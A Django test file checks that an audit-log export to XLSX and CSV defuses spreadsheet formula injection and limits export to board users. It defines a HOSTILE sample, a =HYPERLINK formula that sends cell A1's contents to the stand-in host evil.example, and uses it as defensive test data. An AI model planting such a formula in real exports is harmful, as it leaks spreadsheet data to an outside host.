"""The audit log's events, filtered as on the page, as XLSX and CSV: each event as its sentence,
typed times, and no text that runs as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

from django.db import transaction
from django.urls import reverse
from openpyxl import load_workbook

from thidua.core import audit
from thidua.core.models import AuditEvent
from thidua.testing import signin

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'


def _hostile_event(cast) -> AuditEvent:
    with transaction.atomic():
        return audit.record(
            actor=cast.board,
            action="import.apply",
            object_type="orgs.import",
            object_id="abc",
            object_label=HOSTILE,
        )


def test_the_workbook_holds_the_filtered_events_as_sentences_with_typed_times(client, cast):
    event = _hostile_event(cast)
    signin(client, cast.board)
    response = client.get(reverse("board:audit_export", args=["xlsx"]), {"kind": "registry"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=4)]
    assert len(rows) == AuditEvent.objects.filter(action__in=_registry_codes()).count() > 5
    assert {r[5] for r in rows} <= set(_registry_codes())
    first = rows[0]
    assert first[0] == event.seq and isinstance(first[0], int)
    assert isinstance(first[1], dt.datetime)
    assert first[2] == "Board Officer"
    assert first[3] == f"Board Officer nhập tệp danh mục {HOSTILE}"
    assert first[5] == "import.apply"
    assert sheet.cell(row=4, column=2).number_format == "dd/mm/yyyy hh:mm"
    # No formula anywhere in the file: the hostile label is text.
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def _registry_codes() -> list[str]:
    from thidua.core.audit_log import audit_kinds

    kind = audit_kinds.get("registry")
    assert kind is not None
    return list(kind.actions)


def test_the_csv_file_defuses_formulas_and_reads_in_english_too(client, cast):
    _hostile_event(cast)
    signin(client, cast.board)
    client.cookies["django_language"] = "en"
    response = client.get(reverse("board:audit_export", args=["csv"]), {"actor": "Board"})
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the file as UTF-8
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:4] == ["No.", "Time", "Person", "What happened"]
    body = rows[1:]
    assert len(body) == AuditEvent.objects.filter(actor=cast.board).count()
    assert body[0][3] == f"Board Officer imported the registry file {HOSTILE}"
    assert dt.datetime.strptime(body[0][1], "%Y-%m-%d %H:%M:%S")
    # A field that starts as a formula gets the apostrophe; nothing else does.
    with transaction.atomic():
        audit.record(actor=cast.board, action="x.y", object_type="=1+1", object_label="-1+1")
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(reverse("board:audit_export", args=["csv"]), {"action": "x.y"})
                .content.decode("utf-8")
                .lstrip("\ufeff")
            )
        )
    )
    assert rows[1][3] == "Board Officer recorded the action “x.y” on -1+1"
    assert rows[1][6] == "'=1+1"


def test_only_the_board_exports_and_an_unknown_format_is_not_found(client, cast):
    for user in (cast.head_rep, cast.member_rep):
        signin(client, user)
        assert client.get(reverse("board:audit_export", args=["csv"])).status_code == 403
    signin(client, cast.board)
    assert client.get(reverse("board:audit_export", args=["pdf"])).status_code == 404
